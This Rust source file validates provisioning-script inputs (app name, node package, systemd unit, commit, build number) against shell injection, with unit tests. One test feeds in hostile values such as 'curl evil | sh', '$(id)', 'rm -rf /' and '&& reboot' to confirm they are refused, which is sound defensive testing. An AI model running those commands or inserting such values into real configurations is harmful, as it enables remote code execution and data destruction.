//! The one check of every value that reaches the provisioning script: the
//! app name (also `/opt/<app>` and `/etc/<app>/app.env`), the node package,
//! the unit's file name, the commit and the build number. `baker build`,
//! `baker provision` and `baker validate` all run it (through
//! [`super::validate::check`]); the script quotes each value as well.

use super::Config;
use super::ci::BuildInfo;
use crate::error::Problem;

/// Letters, digits and `extra`; not starting with `-` (an option).
fn plain(value: &str, extra: &str) -> bool {
    !value.is_empty()
        && !value.starts_with('-')
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || extra.contains(c))
}

/// Every problem with the values the script is rendered from; `info` is
/// `None` when the commit and build number are not known (yet).
pub fn check(config: &Config, info: Option<&BuildInfo>) -> Vec<Problem> {
    let mut problems = Vec::new();

    let name = &config.app.name;
    if name.len() > 64
        || !name.starts_with(|c: char| c.is_ascii_lowercase())
        || !plain(name, "-_")
        || name.chars().any(|c| c.is_ascii_uppercase())
    {
        problems.push(Problem::new(
            "app.name",
            format!(
                "{name:?} must be 1 to 64 lower-case letters, digits, - or _, starting with a letter"
            ),
        ));
    }

    let package = &config.app.node_package;
    if package.trim().is_empty() {
        problems.push(Problem::new(
            "app.node_package",
            "must name the package that provides `node`",
        ));
    } else if package.len() > 200 {
        problems.push(Problem::new(
            "app.node_package",
            "at most 200 characters of package names separated by spaces",
        ));
    } else if let Some(why) = package
        .split_whitespace()
        .find_map(super::names::package_problem)
    {
        problems.push(Problem::new("app.node_package", why));
    }

    if let Some(unit) = config.app.unit.file_name().and_then(|n| n.to_str())
        && !plain(unit, ":_.@-")
    {
        problems.push(Problem::new(
            "app.unit",
            format!(
                "the unit's file name {unit:?} may only hold letters, digits, : _ . @ and - \
                 (systemd's unit name characters)"
            ),
        ));
    } else if let Some(why) = config
        .app
        .unit
        .file_name()
        .and_then(|n| n.to_str())
        .and_then(super::names::unit_name_problem)
    {
        problems.push(Problem::new("app.unit", why));
    }

    if let Some(info) = info {
        if info.commit.len() > 64 || !plain(&info.commit, "._-") {
            problems.push(Problem::new(
                "commit",
                format!(
                    "{:?} is not a commit id: up to 64 letters, digits, '.', '_' and '-'",
                    info.commit
                ),
            ));
        }
        if info.build.len() > 64 || !plain(&info.build, "._-") {
            problems.push(Problem::new(
                "build number",
                format!(
                    "{:?} may only hold letters, digits, '.', '_' and '-' (up to 64)",
                    info.build
                ),
            ));
        }
    }
    problems
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fields(config: &Config, info: Option<&BuildInfo>) -> Vec<String> {
        check(config, info).into_iter().map(|p| p.field).collect()
    }

    #[test]
    fn the_defaults_and_a_normal_build_pass() {
        let info = BuildInfo {
            commit: "0123456789abcdef".into(),
            build: "42".into(),
        };
        assert!(fields(&Config::default(), Some(&info)).is_empty());
        let mut config = Config::default();
        config.app.node_package = "nodejs20 npm".into();
        assert!(fields(&config, Some(&info)).is_empty());
    }

    #[test]
    fn hostile_values_are_refused_by_field() {
        let mut config = Config::default();
        config.app.node_package = "nodejs\"; curl evil | sh; \"".into();
        config.app.name = "app$(id)".into();
        config.app.unit = "systemd/x;rm.service".into();
        let info = BuildInfo {
            commit: "abc\nBAKER_ENV\nrm -rf /".into(),
            build: "1 && reboot".into(),
        };
        assert_eq!(
            fields(&config, Some(&info)),
            [
                "app.name",
                "app.node_package",
                "app.unit",
                "commit",
                "build number"
            ]
        );
        config = Config::default();
        config.app.node_package = "--allowerasing".into();
        assert_eq!(fields(&config, None), ["app.node_package"]);
    }
}
